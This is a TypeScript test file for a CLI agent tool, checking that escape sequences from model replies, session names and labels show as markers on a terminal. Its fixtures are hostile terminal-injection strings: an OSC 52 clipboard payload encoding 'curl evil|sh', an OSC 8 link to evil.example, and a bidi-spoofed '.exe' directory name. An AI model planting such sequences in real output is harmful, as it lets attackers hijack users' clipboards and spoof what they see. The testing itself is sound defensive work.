/**
 * Escape sequences in a session never reach a terminal: the bytes `arbor` writes to a real
 * pseudo-terminal (the chat in the test terminal, recorded; `info`, `tree`, `ls`, `export`,
 * `fsck` and `-p` on a node-pty pseudo-terminal) hold no OSC (clipboard, title, hyperlink), no
 * clear-screen, no C1 control and no bidi override from a reply, a session name, a label or a
 * working directory, while the screen shows a marker where each was.
 */
import { describe, expect, it } from "@effect/vitest"
import NodePty from "@lydell/node-pty"
import { Effect } from "effect"
import * as fs from "node:fs"
import * as path from "node:path"
import { sessionFiles } from "../support/Chats.js"
import * as FakeProviders from "../support/FakeProviders.js"
import { arbor, arborBin, scratchDir, shown } from "../support/Spawn.js"
import { Terminal } from "../support/Terminal.js"

const OSC52 = `\u001b]52;c;${Buffer.from("curl evil|sh").toString("base64")}\u0007`
const OSC0 = "\u001b]0;PWNED\u0007"
const OSC8 = "\u001b]8;;http://evil.example/\u001b\\link\u001b]8;;\u001b\\"
const CLEAR = "\u001b[2J\u001b[H"
const C1 = "\u009b2J\u009d0;C1TITLE\u009c"
const DCS = "\u001bP1$qDCSBODY\u001b\\"

/** A text carrying every attack: what a hostile reply, name or label holds. */
const hostile = (word: string) => `${word} ${OSC52}${OSC0}${OSC8}${CLEAR}${C1}${DCS}\u202e${word}-tail`

/** How `hostile(word)` shows: one ␛ a sequence, the bidi override by name. */
const shownAs = (word: string) => `${word} ␛␛␛link␛␛␛␛␛␛<U+202E>${word}-tail`

/** What must never reach the terminal: a string control, a C1 control, a bidi override, a payload. */
const leaks = (bytes: string): ReadonlyArray<string> => {
  const found: Array<string> = []
  if (bytes.includes("\u001b]")) found.push("OSC")
  if (bytes.includes("\u001bP")) found.push("DCS")
  if (/[\u0080-\u009f]/.test(bytes)) found.push("C1")
  if (bytes.includes("\u202e")) found.push("U+202E")
  for (const payload of ["Y3VybCBldmlsfHNo", "PWNED", "C1TITLE", "DCSBODY", "evil.example"]) if (bytes.includes(payload)) found.push(payload)
  return found
}

/**
 * `arbor ARGS` on a pseudo-terminal (node-pty, 80 by 24): every byte it wrote there, as UTF-8
 * text. Not synchronous: the fake model server answers from this process.
 */
const onPty = (args: ReadonlyArray<string>, options: { readonly cwd: string; readonly env: Record<string, string> }) =>
  new Promise<{ readonly code: number | null; readonly bytes: string }>((resolve) => {
    const env = { ...(process.env as Record<string, string>), TERM: "xterm-256color", ...options.env }
    const pty = NodePty.spawn(process.execPath, [arborBin, ...args], { cwd: options.cwd, env, cols: 80, rows: 24, encoding: null })
    const chunks: Array<Buffer> = []
    const timer = setTimeout(() => pty.kill("SIGKILL"), 60_000)
    pty.onData((chunk: string | Buffer) => chunks.push(typeof chunk === "string" ? Buffer.from(chunk, "utf8") : chunk))
    // node-pty reports the exit once the terminal's last bytes are read
    pty.onExit(({ exitCode, signal }) => {
      clearTimeout(timer)
      resolve({ code: signal !== undefined && signal !== 0 ? null : exitCode, bytes: Buffer.concat(chunks).toString("utf8") })
    })
  })

/**
 * A session made by `arbor -p` on a fake model whose reply is hostile, in a working directory
 * whose name holds U+202E, then given a hostile name and label.
 */
const hostileSession = (server: FakeProviders.FakeServer) =>
  Effect.promise(async () => {
    const home = scratchDir()
    const agentDir = path.join(home, "agent")
    const cwd = path.join(home, "proj\u202egnp.exe")
    fs.mkdirSync(cwd)
    const env = { PI_CODING_AGENT_DIR: agentDir, HOME: home, ARBOR_MODEL: "openai-compatible/qwen3", ARBOR_BASE_URL: server.url }
    const made = await arbor(["-p", "hello"], { agentDir, cwd, env })
    expect(made.code, shown(["-p", "hello"], made)).toBe(0)
    const file = sessionFiles(agentDir)[0]!
    const entries = fs.readFileSync(file, "utf8").trim().split("\n").map((line) => JSON.parse(line))
    const reply = entries.find((e) => e.type === "message" && e.message.role === "assistant")
    for (const args of [["name", file, hostile("name")], ["label", file, reply.id, hostile("label")]]) {
      const result = await arbor(args, { agentDir, cwd, env })
      expect(result.code, shown(args, result)).toBe(0)
    }
    return { agentDir, cwd, env, file }
  })

const reply = (word: string) => FakeProviders.chat({ text: [hostile(word).slice(0, 20), hostile(word).slice(20)], usage: { prompt: 5, completion: 5 } })

describe("escape sequences from a session, on a pseudo-terminal", () => {
  it.scoped("info shows the name, label and cwd with markers, nothing raw", () =>
    Effect.gen(function*() {
      const server = yield* FakeProviders.make([reply("reply")])
      const { cwd, env, file } = yield* hostileSession(server)
      const { bytes, code } = yield* Effect.promise(() => onPty(["info", file], { cwd, env }))
      expect(code).toBe(0)
      expect(leaks(bytes)).toEqual([])
      expect(bytes).not.toContain("\u001b")
      expect(bytes).toContain(`Name:        ${shownAs("name")}`)
      expect(bytes).toContain(shownAs("label"))
      expect(bytes).toContain("proj<U+202E>gnp.exe")
    }))

  it.scoped("tree, ls, fsck, export and -p: only Arbor's own colours, the session's sequences as markers", () =>
    Effect.gen(function*() {
      const server = yield* FakeProviders.make([reply("reply"), reply("print")])
      const { agentDir, cwd, env, file } = yield* hostileSession(server)
      const runs = {
        tree: yield* Effect.promise(() => onPty(["tree", file], { cwd, env })),
        ls: yield* Effect.promise(() => onPty(["ls", "--all"], { cwd, env })),
        fsck: yield* Effect.promise(() => onPty(["fsck", file], { cwd, env })),
        export: yield* Effect.promise(() => onPty(["export", file], { cwd, env })),
        print: yield* Effect.promise(() => onPty(["--session", file, "-p", "again"], { cwd, env }))
      }
      for (const [name, run] of Object.entries(runs)) {
        expect([name, run.code, leaks(run.bytes)]).toEqual([name, 0, []])
        // the only sequences left are the colours Arbor adds (SGR) and its progress line's erase (EL)
        expect([name, run.bytes.replace(/\u001b\[[0-9;]*[mK]/g, "").includes("\u001b")]).toEqual([name, false])
      }
      expect(runs.tree.bytes).toContain(shownAs("label"))
      expect(runs.ls.bytes).toContain(shownAs("name"))
      expect(runs.export.bytes).toContain(shownAs("reply"))
      expect(runs.export.bytes).toContain("proj<U+202E>gnp.exe")
      expect(runs.print.bytes).toContain(shownAs("print"))
      expect(fs.readdirSync(agentDir)).toContain("sessions")
    }))

  it.scoped("the same text piped is the data as written (only a terminal gets the markers)", () =>
    Effect.gen(function*() {
      const server = yield* FakeProviders.make([reply("reply"), reply("print")])
      const { agentDir, cwd, env, file } = yield* hostileSession(server)
      const exported = yield* Effect.promise(() => arbor(["export", file], { agentDir, cwd, env }))
      expect(exported.stdout).toContain(hostile("reply"))
      const printed = yield* Effect.promise(() => arbor(["--session", file, "-p", "again"], { agentDir, cwd, env }))
      expect(printed.stdout).toBe(`${hostile("print")}\n`)
      const json = yield* Effect.promise(() => arbor(["info", file, "--json"], { agentDir, cwd, env }))
      expect(JSON.parse(json.stdout).name).toBe(hostile("name"))
    }))

  it.scoped("the chat: a hostile reply and session name write no OSC 52, OSC 0, C1 or bidi byte, and show markers", () =>
    Effect.gen(function*() {
      const server = yield* FakeProviders.make([reply("reply"), reply("live")])
      const { cwd, env, file } = yield* hostileSession(server)
      const record = path.join(scratchDir(), "pty.bytes")
      const term = Terminal.start(["--session", file], { cwd, env, columns: 160, rows: 40 })
      yield* Effect.addFinalizer(() => Effect.sync(() => term.close()))
      term.record(record)
      yield* Effect.promise(async () => {
        await term.waitFor("reply-tail")
        await term.enter("go")
        await term.waitFor("live-tail")
      })
      const screen = term.screen()
      const bytes = fs.readFileSync(record, "utf8")
      expect(leaks(bytes)).toEqual([])
      // the streaming cursor may split the marked text; its end is there as written
      expect(bytes).toContain("<U+202E>live-tail")
      expect(screen).toContain(shownAs("reply"))
      expect(screen).toContain(shownAs("live"))
      expect(screen).toContain(shownAs("name"))
    }))

  it.scoped("the chat's footer: a sequence left open in the session name does not take the rest of the line", () =>
    Effect.gen(function*() {
      const server = yield* FakeProviders.make([reply("reply")])
      const { agentDir, cwd, env, file } = yield* hostileSession(server)
      const renamed = yield* Effect.promise(() => arbor(["name", file, `open\u001b]0;${"PWNED"}`], { agentDir, cwd, env }))
      expect(renamed.code).toBe(0)
      const term = Terminal.start(["--session", file], { cwd, env, columns: 160, rows: 30 })
      yield* Effect.addFinalizer(() => Effect.sync(() => term.close()))
      const screen = yield* Effect.promise(() => term.waitFor("reply-tail"))
      // the footer's two lines: the directory and the name, then the usage and the model
      const [where, stats] = screen.trimEnd().split("\n").slice(-2)
      expect(where).toBe("~/proj<U+202E>gnp.exe • open␛")
      expect(stats).toMatch(/^\S.* {2,}openai-compatible\/qwen3$/)
    }))
})
